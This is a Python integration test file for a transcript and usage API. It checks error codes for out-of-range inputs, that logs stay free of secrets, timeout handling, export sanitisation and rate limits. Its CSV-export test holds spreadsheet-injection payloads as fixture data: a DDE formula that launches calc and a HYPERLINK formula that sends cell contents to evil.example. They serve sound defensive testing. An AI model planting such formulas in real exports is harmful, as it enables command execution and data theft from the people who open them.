"""Bounded work and clean logs (issue 15): decoded values out of range are 4xx, never a 500 that
logs the statement's parameters; a forced 500 logs no request data; statement timeouts are 503.
"""

from __future__ import annotations

import base64
import csv
import io
import logging
from collections.abc import AsyncIterator

import docx
import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import text, update
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker

from api.app import create_app
from api.context import CONTEXT
from core.logs import JsonFormatter, TextFormatter
from store.database import open_database
from store.engine import create_engine, create_sessionmaker
from store.models import Participant
from store.records import SessionRecord
from store.settings import DatabaseSettings
from store.stores import Store
from tests.integration.api.conftest import Client, MakeClient, api_settings
from tests.integration.api.support import error_of, seed_transcript, seed_usage, user

SECRET = "findme-7d1207-secret"


def _b64(raw: str) -> str:
    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")


def logged(caplog: pytest.LogCaptureFixture) -> str:
    """Every captured line as both formatters write it (messages, extras, tracebacks), except
    aiohttp's access log, which the test server writes and ``api.server`` switches off."""
    lines = []
    for record in caplog.records:
        if record.name == "aiohttp.access":
            continue
        lines.append(JsonFormatter().format(record))
        lines.append(TextFormatter().format(record))
    return "\n".join(lines)


@pytest.fixture
async def session(repo: Store) -> SessionRecord:
    record = await repo.sessions.create_session(space_id="space-a", created_by="ivan", title="T")
    await seed_transcript(repo, record, [("ivan", "Ivan", 0, 1000, "hello")])
    return record


@pytest.mark.parametrize(
    "raw",
    ["99999999999999999999:1", "1:99999999999999999999", f"{2**63}:0", f"0:{2**64}"],
)
async def test_out_of_range_transcript_cursor_is_422_and_logs_nothing_of_it(
    client: Client, session: SessionRecord, caplog: pytest.LogCaptureFixture, raw: str
) -> None:
    with caplog.at_level(logging.DEBUG):
        for params in ({"cursor": _b64(raw)}, {"cursor": _b64(raw), "q": SECRET}):
            response = await client.get(
                f"/api/sessions/{session.slug}/transcript", params=params, headers=user("ivan")
            )
            assert await error_of(response) == (422, "validation_error")
    text_ = logged(caplog)
    assert max(raw.split(":"), key=len) not in text_ and SECRET not in text_
    assert "internal" not in text_ and "Traceback" not in text_


@pytest.mark.parametrize("stamp", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
async def test_session_cursor_outside_the_calendar_is_422(
    client: Client, caplog: pytest.LogCaptureFixture, stamp: str
) -> None:
    with caplog.at_level(logging.DEBUG):
        response = await client.get(
            "/api/sessions", params={"cursor": _b64(f"{stamp}|1")}, headers=user("ivan")
        )
        assert await error_of(response) == (422, "validation_error")
    assert "Traceback" not in logged(caplog)


@pytest.mark.parametrize(
    "params",
    [
        {"from": "9999-12-01", "to": "9999-12-31"},
        {"to": "9999-12-31"},
        {"from": "9999-12-31"},
    ],
)
async def test_usage_report_at_the_end_of_the_calendar_is_422(
    client: Client, caplog: pytest.LogCaptureFixture, params: dict[str, str]
) -> None:
    with caplog.at_level(logging.DEBUG):
        response = await client.get("/api/usage", params=params, headers=user("ivan", role="admin"))
        assert await error_of(response) == (422, "validation_error")
    assert "Traceback" not in logged(caplog) and "9999" not in logged(caplog)


async def _failing_query(request: web.Request) -> web.Response:
    """A handler whose statement fails in the server with the parameter in the message."""
    sessionmaker = request.app[CONTEXT].sessionmaker
    async with sessionmaker() as db:
        await db.execute(text("SELECT CAST(:value AS integer)"), {"value": request.query["v"]})
    return web.Response(text="unreachable")


async def test_forced_500_logs_no_parameters_nor_messages(
    sessionmaker: async_sessionmaker[AsyncSession], caplog: pytest.LogCaptureFixture
) -> None:
    app = create_app(api_settings(), sessionmaker)
    app.router.add_get("/test/boom", _failing_query)
    async with TestClient(TestServer(app)) as test_client:
        with caplog.at_level(logging.DEBUG):
            response = await test_client.get("/test/boom", params={"v": SECRET})
            assert await error_of(response) == (500, "internal_error")
    text_ = logged(caplog)
    assert "unhandled error while serving a request" in text_
    # what failed and where, for the operator; not what was asked
    assert "DBAPIError" in text_ and "DataError" in text_ and "/test/boom" in text_
    assert SECRET not in text_


async def test_engine_hides_parameters(engine: AsyncEngine) -> None:
    """SQLAlchemy's own message (logged by whoever catches it) carries no parameters."""
    with pytest.raises(Exception) as caught:
        async with engine.connect() as conn:
            await conn.execute(text("SELECT 1 / :zero"), {"zero": 0, "unused": SECRET})
    assert SECRET not in str(caught.value)
    assert "parameters hidden" in str(caught.value)


@pytest.fixture
async def slow_engine(database_url: str) -> AsyncIterator[AsyncEngine]:
    engine = create_engine(database_url, pool_size=2, max_overflow=2, statement_timeout_ms=200)
    try:
        yield engine
    finally:
        await engine.dispose()


async def test_statement_timeout_is_503_database_timeout(
    slow_engine: AsyncEngine, engine: AsyncEngine, session: SessionRecord
) -> None:
    """A statement that waits past DB_STATEMENT_TIMEOUT_MS (here: on a lock another connection
    holds) is cancelled by the server and answered 503 with Retry-After."""
    app = create_app(api_settings(), create_sessionmaker(slow_engine))
    async with TestClient(TestServer(app)) as test_client, engine.connect() as holder:
        trans = await holder.begin()
        await holder.execute(text("LOCK TABLE segments IN ACCESS EXCLUSIVE MODE"))
        try:
            response = await test_client.get(
                f"/api/sessions/{session.slug}/transcript", headers=user("ivan")
            )
            assert await error_of(response) == (503, "database_timeout")
            assert int(response.headers["Retry-After"]) >= 1
        finally:
            await trans.rollback()
        response = await test_client.get(
            f"/api/sessions/{session.slug}/transcript", headers=user("ivan")
        )
        assert response.status == 200


async def test_open_database_sets_the_statement_timeout_and_still_migrates(
    database_url: str,
) -> None:
    settings = DatabaseSettings(database_url=database_url, db_pool_size=1, db_max_overflow=0)
    async with (
        open_database(settings, migrate=True, statement_timeout_ms=1234) as database,
        database.engine.connect() as conn,
    ):
        assert (await conn.execute(text("SHOW statement_timeout"))).scalar_one() == "1234ms"


async def test_csv_exports_neutralise_formulas(
    client: Client, repo: Store, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    title = "+cmd|' /C calc'!A0"
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record = await repo.sessions.create_session(space_id="space-a", created_by="eve", title=title)
    await seed_usage(repo, record, "@eve", "61")
    async with sessionmaker.begin() as db:
        await db.execute(update(Participant).values(name=name))
    responses = [
        await client.get(
            f"/api/sessions/{record.slug}/usage", params={"format": "csv"}, headers=user("eve")
        ),
        *[
            await client.get(
                "/api/usage",
                params={"format": "csv", "group_by": group_by},
                headers=user("eve", role="admin"),
            )
            for group_by in ("participant", "session", "user")
        ],
    ]
    cells: list[str] = []
    for response in responses:
        assert response.status == 200
        cells += [c for row in csv.reader(io.StringIO(await response.text())) for c in row]
    assert "'" + name in cells and "'" + title in cells and "'@eve" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # numbers stay numbers
    assert "61.000" in cells and any(c.startswith("0.02") for c in cells)


async def test_docx_export_of_a_title_with_control_characters(client: Client, repo: Store) -> None:
    record = await repo.sessions.create_session(
        space_id="space-a", created_by="ivan", title="Plan\x01ning\x1b"
    )
    await seed_transcript(repo, record, [("ivan", "Iv\x02an", 0, 1000, "hel\x0blo")])
    response = await client.get(
        f"/api/sessions/{record.slug}/transcript", params={"format": "docx"}, headers=user("ivan")
    )
    assert response.status == 200
    document = docx.Document(io.BytesIO(await response.read()))
    assert [p.text for p in document.paragraphs] == ["Planning", "[00:00:00] Ivan: hello"]


async def test_exports_and_searches_are_rate_limited_per_caller(
    make_client: MakeClient, session: SessionRecord
) -> None:
    client = await make_client(
        api_rate_export_per_minute=1,
        api_rate_export_burst=2,
        api_rate_search_per_minute=1,
        api_rate_search_burst=3,
    )
    path = f"/api/sessions/{session.slug}/transcript"
    for fmt in ("txt", "srt"):
        assert (await client.get(path, params={"format": fmt}, headers=user("ivan"))).status == 200
    response = await client.get(path, params={"format": "json"}, headers=user("ivan"))
    assert await error_of(response) == (429, "rate_limited")
    assert 1 <= int(response.headers["Retry-After"]) <= 60
    # the usage CSV is an export too; the JSON report is not
    response = await client.get(
        f"/api/sessions/{session.slug}/usage", params={"format": "csv"}, headers=user("ivan")
    )
    assert await error_of(response) == (429, "rate_limited")
    assert (
        await client.get(f"/api/sessions/{session.slug}/usage", headers=user("ivan"))
    ).status == 200
    # another caller (user, or the admin key acting for one) has its own bucket
    assert (await client.get(path, params={"format": "txt"}, headers=user("olga"))).status == 200
    # searches have their own limit; plain pages none
    for _ in range(3):
        assert (await client.get(path, params={"q": "hello"}, headers=user("ivan"))).status == 200
    response = await client.get(path, params={"q": "hello"}, headers=user("ivan"))
    assert await error_of(response) == (429, "rate_limited")
    # the search across the space's sessions shares that bucket
    response = await client.get("/api/search", params={"q": "hello"}, headers=user("ivan"))
    assert await error_of(response) == (429, "rate_limited")
    response = await client.get("/api/search", params={"q": "hello"}, headers=user("olga"))
    assert response.status == 200
    for _ in range(5):
        assert (await client.get(path, headers=user("ivan"))).status == 200
    # no credentials: 401, not 429
    response = await client.get(path, params={"q": "hello"})
    assert (await error_of(response))[0] == 401


async def test_rate_limits_off_when_zero(make_client: MakeClient, session: SessionRecord) -> None:
    client = await make_client(api_rate_export_per_minute=0, api_rate_export_burst=1)
    path = f"/api/sessions/{session.slug}/transcript"
    for _ in range(4):
        assert (
            await client.get(path, params={"format": "txt"}, headers=user("ivan"))
        ).status == 200
